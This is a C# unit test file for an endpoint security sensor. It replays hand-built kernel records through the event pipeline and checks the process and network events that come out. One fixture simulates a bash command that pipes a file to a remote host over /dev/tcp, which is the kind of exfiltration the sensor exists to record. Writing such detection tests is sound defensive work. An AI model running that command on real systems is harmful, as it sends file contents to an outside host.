using System.Runtime.InteropServices;
using System.Text;
using System.Text.Json;
using Vigil.Agent.Sensor;
using Vigil.Agent.Sensor.Native;

namespace Vigil.Agent.Tests.Sensor;

/// <summary>The record-to-event step without a kernel: hand-built records in ring order, as the BPF side writes them.</summary>
public sealed class SensorPipelineTests
{
    // Pids far above pid_max, so /proc never knows them and the table holds only what the records say.
    private const int Shell = 90_000_001;
    private const int Child = 90_000_002;

    [Fact]
    public void EntityIdIsBase64OfHostPidAndStartTicksSinceTheEpoch() =>
        Assert.Equal("YWJjLTEyLTM0NQ==", EntityIds.For("abc", 12, 3, 45)); // base64("abc-12-345"), by python's base64

    [Fact]
    public void ArgsSplitOnNulAndIgnoreTheTrailingOne() =>
        Assert.Equal(["cat", "a b", ""], ArgsParser.Split("cat\0a b\0\0"u8));

    [Fact]
    public void ANetworkEventDescribesTheImageCurrentWhenItHappened()
    {
        var host = new HostIdentity
        {
            Id = "h1", Name = "test", Ips = ["192.0.2.1"], Macs = [], OsName = "Debian GNU/Linux", OsVersion = "12",
            OsFamily = "debian", Kernel = "6.18", BootTimeSeconds = 1_000, AgentId = "00000000-0000-0000-0000-000000000001",
        };
        var table = new ProcessTable(host, bootEpochNs: 1_000_000_000_000);
        var sink = new CapturingSink();
        var pipeline = new SensorPipeline(table, new AgentEventWriter(host, table, new UserDirectory("/nonexistent", "/nonexistent")), [sink], 1_000_000_000_000, TextWriter.Null);

        pipeline.Handle(Exec(Shell, 1, "/usr/bin/bash", "bash\0-c\0cat f > /dev/tcp/2001:db8::2/80\0"));
        pipeline.Handle(Bytes(new SensorRecord { Kind = RecordKind.Fork, Pid = Child, ParentPid = Shell, StartNs = 7_000_000_000, TimeNs = 7_000_000_000 }));
        pipeline.Handle(Tcp(RecordKind.Connect, 2));
        pipeline.Handle(Exec(Child, Shell, "/usr/bin/cat", "cat\0f\0"));
        pipeline.Handle(Tcp(RecordKind.Close, 4));
        pipeline.Handle(Bytes(new SensorRecord { Kind = RecordKind.Exit, Pid = Child, ParentPid = Shell, StartNs = 7_000_000_000, TimeNs = 7_500_000_000 }));

        var events = sink.Events.Select(static e => JsonDocument.Parse(e).RootElement).ToList();
        var ofChild = events.Where(e => e.GetProperty("process").GetProperty("pid").GetInt32() == Child).ToList();
        Assert.Equal(["fork:bash", "connection_attempted:bash", "exec:cat", "disconnect_received:cat", "end:cat"],
            ofChild.Select(e => e.GetProperty("event").GetProperty("action").GetString() + ":" + e.GetProperty("process").GetProperty("name").GetString()));
        // One entity id for the child's whole life: base64("h1-90000002-100700"), start 7 s after boot at 1,000 s.
        var expected = Convert.ToBase64String(Encoding.UTF8.GetBytes("h1-90000002-100700"));
        Assert.All(ofChild, e => Assert.Equal(expected, e.GetProperty("process").GetProperty("entity_id").GetString()));
        var close = ofChild[3];
        Assert.Equal("2001:db8::2", close.GetProperty("destination").GetProperty("ip").GetString());
        Assert.Equal(80, close.GetProperty("destination").GetProperty("port").GetInt32());
        Assert.Equal(41000, close.GetProperty("source").GetProperty("port").GetInt32());
        Assert.Equal(15, close.GetProperty("source").GetProperty("bytes").GetInt64());
        Assert.Equal("ipv6", close.GetProperty("network").GetProperty("type").GetString());
        Assert.Equal("bash", close.GetProperty("process").GetProperty("parent").GetProperty("name").GetString());
        Assert.All(events, e => Assert.Empty(Vigil.Simulation.DefendShapeChecker.Check(e)));
    }

    private static byte[] Tcp(RecordKind kind, long second)
    {
        var record = new SensorRecord
        {
            Kind = kind, Pid = Child, ParentPid = Shell, StartNs = 7_000_000_000, TimeNs = (ulong)(7_000_000_000 + second * 100_000_000),
            Family = 10, LocalPort = 41000, RemotePort = 80, Protocol = 6, Direction = 1, BytesSent = 15,
        };
        var remote = System.Net.IPAddress.Parse("2001:db8::2").GetAddressBytes();
        var local = System.Net.IPAddress.Parse("2001:db8::1").GetAddressBytes();
        var bytes = Bytes(record);
        remote.CopyTo(bytes, (int)Marshal.OffsetOf<SensorRecord>(nameof(SensorRecord.RemoteAddress)));
        local.CopyTo(bytes, (int)Marshal.OffsetOf<SensorRecord>(nameof(SensorRecord.LocalAddress)));
        return bytes;
    }

    private static byte[] Exec(int pid, int parent, string filename, string args)
    {
        var head = Bytes(new SensorRecord { Kind = RecordKind.Exec, Pid = (uint)pid, ParentPid = (uint)parent, StartNs = pid == Shell ? 1_000_000_000UL : 7_000_000_000UL, TimeNs = 7_100_000_000 + (ulong)pid % 7, ArgsLength = (uint)Encoding.UTF8.GetByteCount(args) });
        var tail = new byte[SensorRecord.FilenameLength + SensorRecord.ArgsCapacity];
        Encoding.UTF8.GetBytes(filename, tail);
        Encoding.UTF8.GetBytes(args, tail.AsSpan(SensorRecord.FilenameLength));
        return [.. head, .. tail];
    }

    private static byte[] Bytes(SensorRecord record)
    {
        var bytes = new byte[Marshal.SizeOf<SensorRecord>()];
        MemoryMarshal.Write(bytes, in record);
        return bytes;
    }
}
